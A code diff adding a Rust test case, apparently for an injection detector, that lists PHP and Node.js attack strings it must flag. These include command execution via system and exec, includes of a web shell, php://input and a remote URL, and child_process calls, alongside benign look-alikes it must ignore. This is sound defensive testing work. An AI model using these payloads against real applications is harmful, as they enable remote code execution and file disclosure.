@@ -189,6 +189,53 @@ fn php_code_tags_callables_variable_functions_and_uploads() {
 }
 
 #[test]
+fn php_calls_need_arguments_and_include_needs_a_php_path() {
+    table(
+        "php",
+        Q,
+        &[
+            "system('id');",
+            "exec($_GET['c'])",
+            "assert($_POST['c'])",
+            "printf(foo)",
+            "posix_kill(1234, 9)",
+            "phpinfo()",
+            "getenv()",
+            "include('/tmp/shell.php');",
+            "require($_GET['file'])",
+            "include_once(\"php://input\")",
+            "require('http://203.0.113.9/x.txt')",
+            "include('uploads/avatar.jpg')",
+            "require(__DIR__ . '/x')",
+            "require('a' . $b)",
+            "strrev( )",
+            "chroot\t()",
+            "gethostbyname(",
+        ],
+        &[
+            "fopen() failed, see the log",
+            "exec() in the child process",
+            "Flush all output before system().",
+            "see exec(5) and printf(3)",
+            "const { join } = require('node:path');",
+            "const lodash = require('lodash');",
+            "const foo = require('./foo');",
+            "require() hack by a contributor",
+        ],
+    );
+    table(
+        "nodejs",
+        Q,
+        &[
+            "require('child_process').exec('id')",
+            "require('node:child_process').execSync('id')",
+            "require(\"node:fs\").readFileSync('/etc/hosts')",
+        ],
+        &["require('node:util')", "node: a fs mount"],
+    );
+}
+
+#[test]
 fn node_deserialization_and_sandbox_escapes() {
     table(
         "nodejs",
